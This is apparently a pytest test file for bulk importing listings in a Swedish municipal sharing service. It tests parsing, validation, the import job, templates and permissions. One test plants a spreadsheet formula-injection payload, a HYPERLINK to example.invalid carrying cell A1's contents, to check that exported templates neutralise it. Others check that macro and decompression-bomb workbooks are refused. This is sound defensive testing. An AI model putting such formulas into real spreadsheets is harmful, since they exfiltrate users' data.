"""Bulk import of listings: reading CSV and XLSX, per-row errors in Swedish before anything is
written, the import all or nothing, its progress, the template, and who may do it."""

import csv
import html
import io
import re
import time
import zipfile
from datetime import date, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlmodel import Session

from sharing.accounts.models import Notification, Role, Site
from sharing.catalog.events import LISTINGS_IMPORTED, WANT_MATCHED
from sharing.catalog.imports import rules as imports
from sharing.catalog.imports import runner as import_runner
from sharing.catalog.imports.models import ImportStatus, ListingImport
from sharing.catalog.listings import rules as listings
from sharing.catalog.listings.models import Condition, Listing, ListingStatus, Visibility
from sharing.catalog.wants import rules as wants
from sharing.clock import utcnow
from sharing.errors import DomainError
from sharing.events import DomainEvent
from tests.conftest import csrf_token

WAIT_SECONDS = 60
HEADER = ["Rubrik", "Kategori", "Skick", "Antal", "Plats", "Vikt (kg)", "Utlåning", "Överlåtelse", "Byte",
          "Tillgänglig från", "Synlighet"]
CONDITIONS = {Condition.AS_NEW: ["Som ny", "As new"], Condition.VERY_GOOD: ["Mycket bra", "Very good"],
              Condition.GOOD: ["Bra, bruksspår", "Good, signs of use"],
              Condition.FAIR: ["Godtagbart, tydligt slitet", "Fair, clearly worn"],
              Condition.NEEDS_REPAIR: ["Behöver lagas", "Needs repair"]}
VISIBILITIES = {Visibility.OWN_MUNICIPALITY: ["Bara min kommun", "My municipality only"],
                Visibility.PARTNERS: ["Alla samarbetskommuner", "All partner municipalities"]}


@pytest.fixture(autouse=True)
def no_import_left_running():
    """A failed test must not leave an import writing to the next test's database."""
    yield
    for import_id in import_runner.running():
        import_runner.wait(import_id, timeout=WAIT_SECONDS)


@pytest.fixture
def setting(factory):
    ystad = factory.municipality("Ystad", "1286")
    skurup = factory.municipality("Skurup", "1264")
    furniture = factory.category("Möbler", name_en="Furniture")
    seating = factory.category("Sittmöbler", name_en="Seating", parent=furniture)
    storage = factory.category("Förvaring", name_en="Storage", parent=furniture)
    places = factory.category("Lokaler", name_en="Premises", kind="place")
    chair = factory.category("Kontorsstol", name_en="Office chair", parent=seating, weight_kg=15, volume_m3=0.5,
                             source="Test")
    factory.category("Övrigt", name_en="Other seating", parent=seating)
    factory.category("Övrigt", name_en="Other storage", parent=storage)
    hall = factory.category("Samlingslokal", name_en="Assembly hall", parent=places)
    return {
        "ystad": ystad, "skurup": skurup, "chair": chair, "hall": hall,
        "town_hall": factory.site(ystad, "Stadshuset"), "depot": factory.site(ystad, "Förrådet Västra"),
        "skurup_site": factory.site(skurup, "Skurups kommunhus"),
        "manager": factory.user(ystad, Role.FACILITY_MANAGER), "employee": factory.user(ystad, Role.EMPLOYEE),
        "skurup_manager": factory.user(skurup, Role.FACILITY_MANAGER),
        "skurup_employee": factory.user(skurup, Role.EMPLOYEE),
    }


def vocabulary(db, s):
    return imports.vocabulary(db, municipality_id=s["ystad"].id, condition_labels=CONDITIONS,
                              visibility_labels=VISIBILITIES)


def check(db, s, data, name="inventarie.csv"):
    return imports.check_file(db, file_name=name, data=data, vocabulary=vocabulary(db, s), by=s["manager"])


def csv_bytes(rows, delimiter=";", encoding="utf-8-sig"):
    lines = [delimiter.join(HEADER)] + [delimiter.join(row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def chair_row(title="Kontorsstol, svart", **cells):
    values = {"Rubrik": title, "Kategori": "Möbler > Sittmöbler > Kontorsstol", "Skick": "Bra, bruksspår",
              "Antal": "12", "Plats": "Stadshuset", "Vikt (kg)": "14,5", "Utlåning": "ja", "Överlåtelse": "x",
              "Byte": "", "Tillgänglig från": "", "Synlighet": ""}
    values.update(cells)
    return [values[name] for name in HEADER]


def count(db, model):
    db.rollback()  # a fresh snapshot: the import commits from another connection
    return db.scalar(select(func.count()).select_from(model))


# --- Reading files ------------------------------------------------------------------------

def test_csv_with_semicolons_a_byte_order_mark_and_decimal_commas(db, setting):
    data = csv_bytes([chair_row(), chair_row("Kontorsstol, röd", Antal="1 200", Överlåtelse="nej",
                                             **{"Tillgänglig från": "1/3/2027", "Vikt (kg)": ""}),
                      ["", "", "", "", "", "", "", "", "", "", ""],  # an empty row is skipped
                      chair_row("Kontorsstol, blå", Kategori="kontorsstol", Synlighet="Bara min kommun",
                                **{"Tillgänglig från": "2027-04-01"})])
    assert data.startswith(b"\xef\xbb\xbf")
    preview = check(db, setting, data)
    assert preview.ok, preview.errors
    first, second, third = (row.details for row in preview.rows)
    assert [row.row for row in preview.rows] == [2, 3, 5]  # numbered as the spreadsheet shows them
    assert (first.title, first.quantity, first.weight_kg, first.condition) == ("Kontorsstol, svart", 12, 14.5,
                                                                                 Condition.GOOD)
    assert (first.lend, first.give_away, first.swap) == (True, True, False)
    assert first.category_id == setting["chair"].id and first.site_id == setting["town_hall"].id
    assert first.visibility == Visibility.PARTNERS and first.contact_user_id == setting["manager"].id
    assert (second.quantity, second.give_away, second.weight_kg) == (1200, False, None)
    assert second.available_from == date(2027, 3, 1)
    assert third.visibility == Visibility.OWN_MUNICIPALITY and third.available_from == date(2027, 4, 1)


def test_csv_with_commas_in_windows_1252_and_english_headers(db, setting):
    text = ("Title,Category,Condition,Quantity,Site,Volume,Lend,Give away,Swap\r\n"
            'Bokhylla,Möbler > Förvaring > Övrigt,Mycket bra,3,Förrådet Västra,"0,4",nej,ja,ja\r\n'
            '"Stol, ""Öland""",Sittmöbler > Övrigt,as_new,1,förrådet västra,0.25,no,yes,\r\n')
    data = text.encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    preview = check(db, setting, data)
    assert preview.ok, preview.errors
    shelf, chair = (row.details for row in preview.rows)
    assert shelf.title == "Bokhylla" and shelf.volume_m3 == 0.4 and shelf.condition == Condition.VERY_GOOD
    assert shelf.site_id == setting["depot"].id and (shelf.lend, shelf.give_away, shelf.swap) == (False, True, True)
    assert chair.title == 'Stol, "Öland"' and chair.volume_m3 == 0.25 and chair.condition == Condition.AS_NEW
    assert preview.rows[1].category == "Möbler > Sittmöbler > Övrigt"


def test_a_utf8_file_with_a_few_unreadable_bytes_is_refused_rather_than_garbled(db, setting):
    # Mostly UTF-8, with one cell pasted in Windows-1252: read as Windows-1252, every å, ä and ö of
    # the file would become "Ã¥", "Ã¤" and "Ã¶" and be saved so.
    data = (csv_bytes([chair_row("Skrivbordsstol, grön"), chair_row("Kontorsstol, röd")], encoding="utf-8")
            + ";".join(chair_row("Pall")).replace("Pall", "Pall ä").encode("cp1252") + b"\r\n")
    with pytest.raises(DomainError) as error:
        check(db, setting, data)
    assert error.value.field == "file" and error.value.params == {"line": 4}
    assert "cannot be read" in error.value.message


def test_an_unreadable_letter_that_begins_a_line_of_a_file_with_a_bom_is_told_on_that_line(db, setting):
    # Excel's "CSV UTF-8" begins with a byte order mark; a row pasted in Windows-1252 whose title
    # begins with Ö is line 4, not the line above it.
    data = (csv_bytes([chair_row("Skrivbordsstol, grön"), chair_row("Kontorsstol, röd")], encoding="utf-8-sig")
            + ";".join(chair_row("Öronlappsfåtölj")).encode("cp1252") + b"\r\n")
    with pytest.raises(DomainError) as error:
        check(db, setting, data)
    assert error.value.params == {"line": 4}


def test_a_utf16_unicode_text_file_from_excel_is_read(db, setting):
    # Excel's "Unicode text": UTF-16 with a byte order mark, tabs between the cells.
    data = csv_bytes([chair_row("Kontorsstol, grön")], delimiter="\t", encoding="utf-16")
    assert data.startswith(b"\xff\xfe")
    preview = check(db, setting, data, "inventarie.txt")
    assert preview.ok, preview.errors
    assert preview.rows[0].details.title == "Kontorsstol, grön" and preview.rows[0].site == "Stadshuset"


def xlsx_bytes(rows, header=HEADER):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_xlsx_with_numbers_dates_and_booleans(db, setting):
    data = xlsx_bytes([
        ["Kontorsstol", "Kontorsstol", "Som ny", 4, "Stadshuset", 12.5, True, None, None, datetime(2027, 5, 2)],
        ["Samlingssal", "Samlingslokal", None, 1, "Stadshuset", None, "JA", "", "", 46_000],  # an Excel day number
        [None] * 11,
    ])
    preview = check(db, setting, data, "inventarie.xlsx")
    assert preview.ok, preview.errors
    chair, hall = (row.details for row in preview.rows)
    assert (chair.quantity, chair.weight_kg, chair.lend, chair.give_away) == (4, 12.5, True, False)
    assert chair.available_from == date(2027, 5, 2) and chair.condition == Condition.AS_NEW
    assert hall.kind == "place" and hall.condition is None and hall.available_from == date(2025, 12, 9)


def test_files_that_cannot_be_imported_are_refused_as_a_whole(db, setting, monkeypatch):
    def refused(data, name):
        with pytest.raises(DomainError) as error:
            check(db, setting, data, name)
        assert error.value.field == "file"
        return error.value.message

    assert "Excel" in refused(b"\xd0\xcf\x11\xe0" + b"\0" * 100, "gammal.xls")
    assert "Excel" in refused(xlsx_bytes([chair_row()]), "makro.xlsm")
    macro = io.BytesIO()
    with zipfile.ZipFile(macro, "w") as archive, zipfile.ZipFile(io.BytesIO(xlsx_bytes([chair_row()]))) as original:
        for entry in original.infolist():
            archive.writestr(entry, original.read(entry))
        archive.writestr("xl/vbaProject.bin", b"macro")
    assert "macros" in refused(macro.getvalue(), "makro.xlsx")
    assert "Excel" in refused(b"%PDF-1.7 binary\x00data", "inventarie.pdf")
    assert "no column" in refused("Rubrik;Antal\r\nStol;1\r\n".encode(), "utan.csv")
    assert "no listings" in refused(";".join(HEADER).encode(), "tom.csv")
    assert "more than" in refused(csv_bytes([chair_row()] * (imports.MAX_ROWS + 1)), "lang.csv")
    assert "larger" in refused(b"x" * (imports.MAX_FILE_BYTES + 1), "stor.csv")
    monkeypatch.setattr(imports, "MAX_UNPACKED_BYTES", 20_000)  # a real one would be slow to build
    assert "unpacked" in refused(xlsx_bytes([chair_row()] * 50), "bomb.xlsx")


def with_blank_rows(data: bytes, last_row: int, dimension: str) -> bytes:
    """The workbook with formatted but empty rows added below its listings, down to ``last_row``,
    and the sheet's dimension as given (Excel writes the true one; a crafted file may not)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in original.infolist():
            content = original.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                text = content.decode()
                rows_now = text.count("<row ")
                blank = "".join(f'<row r="{n}"><c r="A{n}" s="0"/><c r="K{n}" s="0"/></row>'
                                for n in range(rows_now + 1, last_row + 1))
                text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', text)
                content = text.replace("</sheetData>", blank + "</sheetData>").encode()
            archive.writestr(entry.filename, content)
    return out.getvalue()


@pytest.mark.parametrize("dimension", ["A1:K30000", "A1:K2"])
def test_a_workbook_of_blank_rows_is_refused_without_reading_them_all(db, setting, dimension):
    data = with_blank_rows(xlsx_bytes([chair_row()]), 30_000, dimension)
    assert len(data) < imports.MAX_FILE_BYTES
    with pytest.raises(DomainError) as refused:
        check(db, setting, data, "tomma-rader.xlsx")
    assert "beyond row" in refused.value.message and refused.value.params == {"max": imports.MAX_SHEET_ROWS}
    # Blank rows among the listings, within the bound, are still skipped.
    preview = check(db, setting, with_blank_rows(xlsx_bytes([chair_row()]), 3_000, "A1:K3000"), "luckor.xlsx")
    assert preview.ok and len(preview.rows) == 1


# --- Checking rows: errors in Swedish, nothing written -----------------------------------------

def upload(client, data, name="inventarie.csv"):
    token = csrf_token(client, "/catalog/import")
    return client.post("/catalog/import", data={"csrf_token": token, "file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


def error_rows(page):
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    cells = re.findall(r"<tr><td[^>]*>(.*?)</td><td[^>]*>(.*?)</td><td[^>]*>(.*?)</td></tr>", body)
    return [(int(row), html.unescape(column), html.unescape(message)) for row, column, message in cells]


def test_rows_with_errors_are_listed_in_swedish_and_nothing_is_written(client, auth, db, setting):
    auth.login(setting["manager"])
    data = csv_bytes([
        chair_row(),
        chair_row(Kategori="Rymdskepp"),
        chair_row(Plats="Skurups kommunhus"),  # another municipality's site is no site of ours
        chair_row(Antal="tolv", **{"Vikt (kg)": "1,2,3"}),
        chair_row(""),
        chair_row(Utlåning="nej", Överlåtelse="nej"),
        chair_row(Kategori="Övrigt"),
        chair_row(Kategori="Samlingslokal", Skick=""),  # places are booked, never handed over
        chair_row(Skick=""),
        chair_row(**{"Tillgänglig från": "i vår", "Utlåning": "kanske"}),
    ])
    response = upload(client, data)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "Ingenting importerades" in html
    assert "Rader med fel: 9 av 10." in html
    assert error_rows(html) == [
        (3, "Kategori", "Okänd kategori ”Rymdskepp”: använd en av kategorierna som mallen listar."),
        (4, "Plats", "Okänd fastighet ”Skurups kommunhus”: använd namnet på en av kommunens fastigheter."),
        (5, "Antal", "Ange ett tal (decimalkomma går bra)."),
        (5, "Vikt (kg)", "Ange ett tal (decimalkomma går bra)."),
        (6, "Rubrik", "Fyll i den här kolumnen."),
        (7, "Utlåning / Överlåtelse / Byte", "Välj minst ett sätt att dela."),
        (8, "Kategori", "Flera kategorier heter ”Övrigt”: skriv sökvägen, till exempel "
                        "”Möbler > Sittmöbler > Kontorsstol”."),
        (9, "Utlåning / Överlåtelse / Byte", "Lokaler och tjänster kan bara bokas för en tid, inte överlåtas."),
        (10, "Skick", "Välj skick."),
        (11, "Utlåning", "Skriv ”ja” eller ”nej” (ett x betyder också ja)."),
        (11, "Tillgänglig från", "Ange ett datum, till exempel 2026-03-31."),
    ]
    assert count(db, Listing) == 0
    assert count(db, ListingImport) == 0


def test_a_row_is_told_every_rule_it_breaks_at_once(db, setting):
    # One round of corrections, not one per rule: no way to share it and no condition.
    preview = check(db, setting, csv_bytes([chair_row(Utlåning="nej", Överlåtelse="", Skick="")]))
    assert sorted((e.column, e.message) for e in preview.errors) == [
        ("Skick", "Choose the condition."),
        ("Utlåning / Överlåtelse / Byte", "Choose at least one way to share it."),
    ]


def test_a_nul_character_in_a_cell_is_refused_at_the_preview(db, setting):
    rows = [chair_row(f"Kontorsstol nummer {n}") for n in range(60)]  # past the first 4 kB, which are sniffed
    rows.append(chair_row("Kontorsstol\x00svart"))
    data = csv_bytes(rows)
    assert b"\x00" not in data[:4096] and b"\x00" in data
    preview = check(db, setting, data)
    assert [(e.row, e.column) for e in preview.errors] == [(62, "Rubrik")]
    assert "NUL" in preview.errors[0].message and preview.rows_with_errors == 1


def test_a_file_level_problem_is_shown_on_the_file_field(client, auth, db, setting):
    auth.login(setting["manager"])
    html = upload(client, b"%PDF-1.7\x00", "inventarie.pdf").get_data(as_text=True)
    assert "Ladda upp en Excel-arbetsbok (.xlsx) eller en CSV-fil" in html
    assert 'aria-invalid="true"' in html
    assert count(db, ListingImport) == 0


# --- Running the import ------------------------------------------------------------------------

def checked_import(client, db, data, name="inventarie.csv"):
    response = upload(client, data, name)
    assert response.status_code == 302, error_rows(response.get_data(as_text=True))
    job_id = int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    db.rollback()
    job = db.get(ListingImport, job_id)
    assert job.status == ImportStatus.PENDING
    return job


def start(client, job, **form):
    token = csrf_token(client, f"/catalog/import/{job.id}")
    response = client.post(f"/catalog/import/{job.id}/start", data={"csrf_token": token, **form})
    assert response.status_code == 302
    return response


def finished(db, job):
    assert import_runner.wait(job.id, timeout=WAIT_SECONDS), "the import did not end in time"
    db.rollback()
    db.refresh(job)
    return job


def test_a_confirmed_import_creates_every_listing_findable_at_once(client, auth, db, setting):
    auth.login(setting["manager"])
    rows = [chair_row(f"Kontorsstol modell {n}") for n in range(1, 8)] + [
        chair_row("Aulan", Kategori="Samlingslokal", Skick="", Överlåtelse="nej")]
    job = checked_import(client, db, csv_bytes(rows))
    page = client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
    assert "Alla 8 rader är korrekta" in page and "Kontorsstol modell 7" in page
    assert count(db, Listing) == 0  # the preview wrote nothing but the checked import

    start(client, job, publish="y")
    job = finished(db, job)
    assert job.status == ImportStatus.DONE and job.done == job.total == 8 and job.rows == []
    created = db.scalars(select(Listing).order_by(Listing.id)).all()
    assert [listing.id for listing in created] == job.created_ids
    assert {listing.status for listing in created} == {ListingStatus.PUBLISHED}
    assert all(listing.municipality_id == setting["ystad"].id for listing in created)
    assert created[0].weight_kg == 14.5 and created[0].volume_m3 is None  # the category's stands in, not copied
    assert created[-1].kind == "place" and created[-1].condition is None

    found = listings.find(db, viewer=setting["skurup_employee"], filters=listings.Filters(q="kontorsstolar modell"))
    assert found.total == 7
    page = client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
    assert "Skapade annonser: 8" in page and f'href="/catalog/{created[0].id}"' in page
    assert client.get(f"/catalog/import/{job.id}/status").get_json() == {
        "status": "done", "done": 8, "total": 8, "finished": True, "text": "8 av 8 rader"}


def test_rows_that_repeat_another_exactly_are_pointed_out_before_the_import(client, auth, db, setting):
    auth.login(setting["manager"])
    data = csv_bytes([chair_row(), chair_row("Kontorsstol, röd"), chair_row(), chair_row("Kontorsstol, röd"),
                      chair_row()])
    page = html.unescape(client.get(upload(client, data).headers["Location"]).get_data(as_text=True))
    assert "Raderna 4, 6 är kopior av rad 2." in page and "Rad 5 är en kopia av rad 3." in page
    assert "Importera 5 annonser" in page  # told, not refused: a file may mean it

    single = csv_bytes([chair_row(), chair_row("Kontorsstol, röd")])
    assert "upprepar" not in client.get(upload(client, single).headers["Location"]).get_data(as_text=True)


def test_listings_are_drafts_unless_published_at_once_and_an_import_runs_once(client, auth, db, setting):
    auth.login(setting["manager"])
    job = checked_import(client, db, xlsx_bytes([chair_row(), chair_row("Pall")]), "inventarie.xlsx")
    start(client, job)
    job = finished(db, job)
    assert job.status == ImportStatus.DONE
    assert set(db.scalars(select(Listing.status))) == {ListingStatus.DRAFT}
    again = start(client, job, publish="y")
    assert "/catalog/import/" in again.headers["Location"]
    assert "Importen har redan startats." in client.get(again.headers["Location"]).get_data(as_text=True)
    assert count(db, Listing) == 2


def test_a_row_that_became_invalid_fails_the_whole_import(client, auth, db, setting):
    auth.login(setting["manager"])
    rows = [chair_row("Stol 1"), chair_row("Stol 2"), chair_row("Stol 3", Plats="Förrådet Västra"), chair_row("Stol 4")]
    job = checked_import(client, db, csv_bytes(rows))
    depot = db.get(Site, setting["depot"].id)
    depot.active = False  # closed between the preview and the run
    db.commit()
    start(client, job)
    job = finished(db, job)
    assert job.status == ImportStatus.FAILED and job.error_row == 4 and job.done == 0
    assert count(db, Listing) == 0  # rows 2 and 3 were written, then rolled back with the rest
    page = client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
    assert "Importen misslyckades. Ingenting sparades." in page
    assert "Rad 4:" in page and "Välj en av din kommuns fastigheter." in page


def test_a_row_refused_while_writing_fails_the_whole_import(client, auth, db, setting):
    auth.login(setting["manager"])
    job = checked_import(client, db, csv_bytes([chair_row("Stol 1"), chair_row("Stol 2"), chair_row("Stol 3")]))
    rows = [dict(row) for row in job.rows]
    # Changed after the preview: the write checks every row again.
    rows[2] = {**rows[2], "details": {**rows[2]["details"], "width_cm": 10**20}}
    job.rows = rows
    db.commit()
    start(client, job, publish="y")
    job = finished(db, job)
    assert job.status == ImportStatus.FAILED and job.error_row == 4
    assert count(db, Listing) == 0
    assert "Rad 4:" in client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
    assert "Ange ett tal från 0 till 100" in client.get(f"/catalog/import/{job.id}").get_data(as_text=True)


@pytest.mark.parametrize(("changed", "told"), [
    # The rules' own: its category no longer fits, and a place is given away (as the preview would tell).
    ({"kind": "place", "give_away": True}, ["Kategorin passar inte resursens slag",
                                            "Lokaler och tjänster kan bara bokas för en tid"]),
    # Out of bounds: the figures a stored row may hold no longer.
    ({"width_cm": 10**20, "quantity": 0}, ["Antalet är från 1 till", "Ange ett tal från 0 till 100"]),
], ids=["rules", "bounds"])
def test_a_row_refused_while_writing_tells_every_rule_it_breaks(client, auth, db, setting, changed, told):
    auth.login(setting["manager"])
    job = checked_import(client, db, csv_bytes([chair_row("Stol 1"), chair_row("Stol 2")]))
    rows = [dict(row) for row in job.rows]
    rows[1] = {**rows[1], "details": {**rows[1]["details"], **changed}}  # changed after the preview
    job.rows = rows
    db.commit()
    start(client, job)
    job = finished(db, job)
    assert job.status == ImportStatus.FAILED and job.error_row == 3
    assert count(db, Listing) == 0
    page = " ".join(client.get(f"/catalog/import/{job.id}").get_data(as_text=True).split())
    summary = re.search(r'<div class="error-summary" role="alert">(.*?)</div>', page).group(1)
    assert "Rad 3:" in summary
    items = re.findall(r"<li>(.*?)</li>", summary)
    assert len(items) == 2 and all(any(words in item for item in items) for words in told), summary
    assert job.error_message == job.error_problems[0]["message"]  # the first, as a failure of one reason has it


def test_other_users_write_while_an_import_runs(app, client, auth, db, setting):
    auth.login(setting["manager"])
    job = checked_import(client, db, csv_bytes([chair_row(f"Stol {n}") for n in range(3_000)]))
    other = Session(bind=app.extensions["sharing.engine"], expire_on_commit=False)
    start(client, job)
    writes = 0
    try:
        while import_runner.running() or writes < 3:
            # Another municipality's administrator renames a site: never "database is locked".
            site = other.get(Site, setting["skurup_site"].id)
            site.name = f"Skurups kommunhus {writes}"
            other.commit()
            writes += 1
            time.sleep(0.02)
    finally:
        other.close()
    job = finished(db, job)
    assert job.status == ImportStatus.DONE and count(db, Listing) == 3_000


def test_progress_is_told_as_json_and_on_an_accessible_page(client, auth, db, setting):
    auth.login(setting["manager"])
    job = checked_import(client, db, csv_bytes([chair_row(f"Stol {n}") for n in range(5)]))
    assert client.get(f"/catalog/import/{job.id}/status").get_json() == {
        "status": "pending", "done": 0, "total": 5, "finished": False, "text": "0 av 5 rader"}
    # As another worker process running it would leave the row: running, with its progress written.
    job.status, job.done, job.started_at = ImportStatus.RUNNING.value, 3, utcnow()
    db.commit()
    assert client.get(f"/catalog/import/{job.id}/status").get_json() == {
        "status": "running", "done": 3, "total": 5, "finished": False, "text": "3 av 5 rader"}
    page = client.get(f"/catalog/import/{job.id}").get_data(as_text=True)
    assert '<progress id="import-progress" max="5" value="3">' in page
    assert '<label for="import-progress">' in page and 'aria-live="polite"' in page
    assert "3 av 5 rader" in page
    assert '<noscript><meta http-equiv="refresh" content="5"></noscript>' in page
    assert '<script src="/static/js/progress.js" defer></script>' in page
    assert "<script>" not in page  # the Content-Security-Policy allows no inline script
    with client.get("/static/js/progress.js") as script:
        assert script.status_code == 200 and "data-progress-status" in script.get_data(as_text=True)


def test_tidy_forgets_unconfirmed_imports_and_fails_interrupted_ones(db, setting):
    now = utcnow()
    old = ListingImport(municipality_id=setting["ystad"].id, file_name="gammal.csv", total=1,
                        created_at=now - timedelta(days=2))
    fresh = ListingImport(municipality_id=setting["ystad"].id, file_name="ny.csv", total=1, created_at=now)
    stuck = ListingImport(municipality_id=setting["ystad"].id, file_name="avbruten.csv", total=1,
                          status=ImportStatus.RUNNING.value, started_at=now - timedelta(hours=2))
    db.add_all([old, fresh, stuck])
    db.commit()
    imports.tidy(db, now=now)
    db.commit()
    assert db.get(ListingImport, old.id) is None and db.get(ListingImport, fresh.id) is not None
    db.refresh(stuck)
    assert stuck.status == ImportStatus.FAILED and "interrupted" in stuck.error_message


# --- The template ---------------------------------------------------------------------------

def test_the_templates_import_without_errors(client, auth, db, setting):
    auth.login(setting["manager"])
    response = client.get("/catalog/import/template.csv")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # said once
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbfRubrik;Beskrivning;Kategori;")
    job = checked_import(client, db, data, "mall.csv")
    assert job.total == 1 and job.rows[0]["category"] == "Möbler > Sittmöbler > Kontorsstol"

    response = client.get("/catalog/import/template.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    assert workbook.sheetnames == ["Annonser", "Giltiga värden"]
    values = [cell for row in workbook["Giltiga värden"].iter_rows(values_only=True) for cell in row if cell]
    assert {"Stadshuset", "Förrådet Västra", "Som ny", "Bra, bruksspår", "Lokaler > Samlingslokal"} <= set(values)
    assert "Skurups kommunhus" not in values  # only the user's own municipality's sites
    job = checked_import(client, db, response.get_data(), "mall.xlsx")
    assert job.total == 1 and job.rows[0]["details"]["weight_kg"] == 14.5


def test_the_templates_write_no_formula_and_read_their_names_back(client, auth, db, setting, factory):
    evil = '=HYPERLINK("https://example.invalid/?d="&A1,"Klicka här")'
    factory.site(setting["ystad"], evil)
    factory.category("@SUM(1+1)", name_en="Other")
    auth.login(setting["manager"])

    text = client.get("/catalog/import/template.csv").get_data().decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    assert "'" + evil in cells  # the example row names the first site
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    data = client.get("/catalog/import/template.xlsx").get_data()
    workbook = load_workbook(io.BytesIO(data))  # formulas as written, not their values
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {"'" + evil, "'@SUM(1+1)"} <= {cell.value for cell in cells}
    # Filled in from the template, the names still mean the site and the category they name.
    preview = check(db, setting, csv_bytes([chair_row(Plats="'" + evil, Kategori="'@SUM(1+1)")]))
    assert preview.ok, preview.errors


# --- Who may ---------------------------------------------------------------------------------

def test_only_facility_managers_import_and_only_within_their_municipality(client, auth, db, setting):
    auth.login(setting["manager"])
    job = checked_import(client, db, csv_bytes([chair_row()]))
    auth.logout()

    auth.login(setting["employee"])
    for path in ("/catalog/import", "/catalog/import/template.csv", f"/catalog/import/{job.id}",
                 f"/catalog/import/{job.id}/status"):
        assert client.get(path).status_code == 403, path
    token = csrf_token(client, "/")
    assert client.post(f"/catalog/import/{job.id}/start", data={"csrf_token": token}).status_code == 403
    assert client.post("/catalog/import", data={"csrf_token": token}).status_code == 403
    auth.logout()

    auth.login(setting["skurup_manager"])
    for path in (f"/catalog/import/{job.id}", f"/catalog/import/{job.id}/status"):
        assert client.get(path).status_code == 404, path
    token = csrf_token(client, "/")
    assert client.post(f"/catalog/import/{job.id}/start", data={"csrf_token": token}).status_code == 404
    assert "inventarie.csv" not in client.get("/catalog/import").get_data(as_text=True)
    db.rollback()
    assert db.get(ListingImport, job.id).status == ImportStatus.PENDING
    # Skurup's template offers Skurup's sites, and a Ystad site is unknown in Skurup's file.
    assert b"Skurups kommunhus" in client.get("/catalog/import/template.csv").get_data()
    html = upload(client, csv_bytes([chair_row()])).get_data(as_text=True)
    assert "Okänd fastighet ”Stadshuset”" in html


def test_our_listings_links_to_the_import(client, auth, setting):
    auth.login(setting["manager"])
    page = client.get("/catalog/mine").get_data(as_text=True)
    assert 'href="/catalog/import"' in page and "Importera från fil" in page
    page = client.get("/catalog/import").get_data(as_text=True)
    # The file picker offers what is read: a workbook, CSV, and Excel's "Unicode text" (.txt).
    assert re.search(r'accept="\.xlsx,\.csv,\.txt,', page)


def test_published_imports_tell_matching_wanted_items_once(client, auth, db, setting, factory, mailbox):
    poster = factory.user(setting["skurup"], Role.EMPLOYEE, unit=factory.unit(setting["skurup"]))
    want = factory.want(by=poster, words="kontorsstol grön")
    auth.login(setting["manager"])
    rows = [chair_row("Kontorsstolar, gröna"), chair_row("Kontorsstol, grön"), chair_row("Pall")]
    job = checked_import(client, db, csv_bytes(rows))
    start(client, job, publish="y")
    assert finished(db, job).status == ImportStatus.DONE
    db.rollback()
    [notice] = db.scalars(select(Notification)).all()
    assert notice.user_id == poster.id and notice.params["count"] == 2
    assert sorted(m.title for m in db.scalars(wants.matching_query(db, want=want, viewer=poster))) == [
        "Kontorsstol, grön", "Kontorsstolar, gröna"]
    [mail] = mailbox.messages  # sent by the import's thread before it ended
    body = mail.get_content()
    assert mail["Subject"] == "Nya annonser matchar din efterlysning"
    assert "2 nya annonser" in body and "Kontorsstol, grön" in body
    # One event tells of the whole import; its listings record none of their own.
    trail = db.scalars(select(DomainEvent).order_by(DomainEvent.id)).all()
    assert [e.name for e in trail if e.name.startswith("catalog.listing.")] == []
    [imported] = [e for e in trail if e.name == LISTINGS_IMPORTED]
    assert imported.payload == {"listing_ids": finished(db, job).created_ids, "published": True}
    [matched] = [e for e in trail if e.name == WANT_MATCHED]
    assert matched.subject_id == want.id and len(matched.payload["listing_ids"]) == 2


def test_a_files_limits_are_told_with_their_numbers_written_the_swedish_way(app, db, setting):
    from sharing.web.forms import refusal

    with pytest.raises(DomainError) as error:
        check(db, setting, csv_bytes([chair_row()] * (imports.MAX_ROWS + 1)), "lang.csv")
    with app.test_request_context(headers={"Accept-Language": "sv"}):
        assert "fler än 5\u00a0000 annonser" in refusal(error.value)
    assert "more than 5000 listings" in error.value.in_english()  # digits for the API
